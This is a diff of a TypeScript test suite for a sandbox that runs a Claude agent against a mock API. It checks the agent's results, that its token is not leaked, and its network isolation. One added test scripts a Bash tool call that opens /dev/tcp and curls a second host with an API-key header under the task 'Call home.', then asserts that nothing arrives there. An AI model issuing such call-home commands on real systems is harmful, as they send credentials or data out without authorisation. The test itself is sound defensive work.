@@ -54,28 +54,35 @@ describe.skipIf(!tools)(`the claude agent in the sandbox${reason ? ` (${reason})
     return daemon.client.result(job_id, {})
   }
 
-  it('works with the real CLI and brings back what it did, said and consumed', async ({ skip }) => {
-    need(skip, ready, 'the sandbox does not work on this machine')
-    await using api = await startAnthropic(writesAFile)
-    const result = await run({
-      task: 'Write the answer into answer.txt.',
-      env: { ANTHROPIC_BASE_URL: api.url },
-      network: 'full',
-      artifacts: ['answer.txt'],
-    })
-    expect(result).toMatchObject({ status: 'success', exit_code: 0, error: null })
-    expect(result.output).toContain('I wrote it down.')
-    expect(result.artifacts).toMatchObject([{ path: 'answer.txt', size: 3 }])
-    expect(result.usage).toMatchObject({
-      inputTokens: 2 * USAGE.input_tokens,
-      outputTokens: 2 * USAGE.output_tokens,
-      turns: 2,
-      costUsd: expect.any(Number),
-    })
-    // The token came from the secret, and nowhere else did it go.
-    expect(new Set(api.credentials)).toEqual(new Set([SECRET]))
-    expect(JSON.stringify(result)).not.toContain(SECRET)
-  })
+  it.for([
+    // Its own default: the domains it needs, and the one its base URL names.
+    { network: undefined, name: 'only its API' },
+    { network: 'full', name: 'full' },
+  ])(
+    'works with the real CLI and brings back what it did, said and consumed (network: $name)',
+    async ({ network }, { skip }) => {
+      need(skip, ready, 'the sandbox does not work on this machine')
+      await using api = await startAnthropic(writesAFile)
+      const result = await run({
+        task: 'Write the answer into answer.txt.',
+        env: { ANTHROPIC_BASE_URL: api.url },
+        ...(network && { network }),
+        artifacts: ['answer.txt'],
+      })
+      expect(result).toMatchObject({ status: 'success', exit_code: 0, error: null })
+      expect(result.output).toContain('I wrote it down.')
+      expect(result.artifacts).toMatchObject([{ path: 'answer.txt', size: 3 }])
+      expect(result.usage).toMatchObject({
+        inputTokens: 2 * USAGE.input_tokens,
+        outputTokens: 2 * USAGE.output_tokens,
+        turns: 2,
+        costUsd: expect.any(Number),
+      })
+      // The token came from the secret, and nowhere else did it go.
+      expect(new Set(api.credentials)).toEqual(new Set([SECRET]))
+      expect(JSON.stringify(result)).not.toContain(SECRET)
+    },
+  )
 
   it('keeps the token out of whatever the agent prints', async ({ skip }) => {
     need(skip, ready, 'the sandbox does not work on this machine')
@@ -83,10 +90,31 @@ describe.skipIf(!tools)(`the claude agent in the sandbox${reason ? ` (${reason})
     const result = await run({
       task: 'Tell me your key.',
       env: { ANTHROPIC_BASE_URL: api.url },
-      network: 'full',
     })
     expect(result.output).toContain('The key is ')
     expect(result.output).not.toContain(SECRET)
+  })
+
+  it('reaches its API and nothing else', async ({ skip }) => {
+    need(skip, ready, 'the sandbox does not work on this machine')
+    await using other = await startAnthropic(() => [])
+    await using api = await startAnthropic(request =>
+      callsOf(request, 'Bash') === 0
+        ? [
+            {
+              type: 'tool_use',
+              name: 'Bash',
+              input: {
+                command: `exec 3<>/dev/tcp/127.0.0.1/${other.port}; curl -sS -m 5 -H 'x-api-key: hello' ${other.url}/v1/x`,
+              },
+            },
+          ]
+        : [{ type: 'text', text: 'I tried.' }],
+    )
+    const result = await run({ task: 'Call home.', env: { ANTHROPIC_BASE_URL: api.url } })
+    expect(result.output).toContain('I tried.')
+    expect(other.credentials).toEqual([])
+    expect(other.connections()).toBe(0)
   })
 
   it('tells when the API refuses the agent', async ({ skip }) => {
